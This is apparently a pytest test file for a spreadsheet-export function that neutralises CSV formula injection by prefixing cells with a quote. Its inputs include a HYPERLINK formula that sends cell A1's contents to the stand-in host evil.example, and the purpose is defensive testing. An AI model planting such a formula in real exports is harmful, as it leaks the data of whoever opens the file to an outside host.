"""Export cells a spreadsheet program cannot run as formulas (OWASP CSV injection)."""

from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openprm.core.spreadsheet import FORMULA_START, safe_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_a_text_that_starts_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-120", "-0.50", "Acme", "", "a=b", 42, Decimal("-3.25"), None])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert safe_cell(value) == value


@given(st.sampled_from(FORMULA_START), st.text())
def test_no_written_text_starts_a_formula_unless_it_is_a_plain_number(start, rest):
    written = safe_cell(start + rest)
    assert not written.startswith(FORMULA_START) or written.lstrip("-").replace(".", "").isdigit()
